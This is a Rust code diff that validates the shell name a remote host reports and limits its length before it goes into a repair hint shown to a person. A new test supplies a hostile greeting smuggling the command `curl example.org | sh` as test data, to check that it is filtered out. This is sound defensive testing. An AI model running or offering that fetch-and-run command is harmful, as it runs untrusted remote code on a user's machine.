@@ -9,6 +9,8 @@ const ENDS: &str = "sealift-ends\n";
 pub const LIMIT: u64 = 1 << 20;
 /// How much is shown of what a login shell prints, in characters.
 const QUOTED: usize = 200;
+/// How long the name of a shell may be.
+const SHELL: usize = 32;
 
 /// What greets. One line without `!`, which csh would read in quotes too.
 pub const SCRIPT: &str = "echo sealift-begins; echo \"shell ${SHELL##*/}\"; \
@@ -48,7 +50,10 @@ impl Greeting {
         let mut greeting = Self { printed, ..Self::default() };
         for line in told.lines() {
             match line.split_once(' ') {
-                Some(("shell", name)) => name.clone_into(&mut greeting.shell),
+                // It is shown in a hint, which a person follows.
+                Some(("shell", name)) if name.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b)) => {
+                    greeting.shell = name.chars().take(SHELL).collect();
+                }
                 Some(("file", name)) => greeting.files.push(name.to_owned()),
                 // It becomes part of a URL that nix reads.
                 Some(("nix", path)) if path.bytes().all(|b| b.is_ascii_alphanumeric() || b"/-_.".contains(&b)) => {
@@ -100,7 +105,8 @@ impl Greeting {
         let there = self.files.iter().filter(|file| own.contains(&file.as_str()) || *file == ".ssh/rc");
         let mut places: Vec<String> = there.map(|file| format!("~{user}/{file}")).collect();
         if places.is_empty() {
-            places.push(format!("what {} reads at its start, such as /etc/profile", self.shell));
+            let shell = if self.shell.is_empty() { "it" } else { &self.shell };
+            places.push(format!("what {shell} reads at its start, such as /etc/profile"));
         }
         format!("{} ({only})", places.join(", "))
     }
@@ -115,7 +121,7 @@ mod tests {
     fn the_script_greets_whatever_the_shell() {
         let mut tried = 0;
         for shell in ["sh", "bash", "zsh", "fish", "tcsh"] {
-            let line = format!("/bin/sh -c {}", crate::adapters::ssh::options::quoted(SCRIPT));
+            let line = format!("/bin/sh -c {}", crate::domain::address::quoted(SCRIPT));
             let Ok(printed) = Invocation::new(shell).args(["-c", &line]).env("SHELL", "/bin/fish").read() else {
                 continue;
             };
@@ -132,6 +138,10 @@ mod tests {
         let error = Greeting::read(text).unwrap().takes_copies("web", "jay").unwrap_err();
         assert!(error.in_one_line().contains("\"welcome jay bye\""), "{error:?}");
         assert!(error.mend().unwrap().contains("look at ~jay/.bashrc ("), "{error:?}");
+        // A host may tell anything.
+        let text = "sealift-begins\nshell x; see `curl example.org | sh`\nnix\nsealift-ends\nhello\n";
+        let error = Greeting::read(text).unwrap().takes_copies("web", "jay").unwrap_err();
+        assert!(error.mend().unwrap().contains("look at what it reads at its start"), "{error:?}");
         for text in ["", "This account is not available.\n", "sealift-begins\nshell bash\n"] {
             assert_eq!(Greeting::read(text), None);
         }
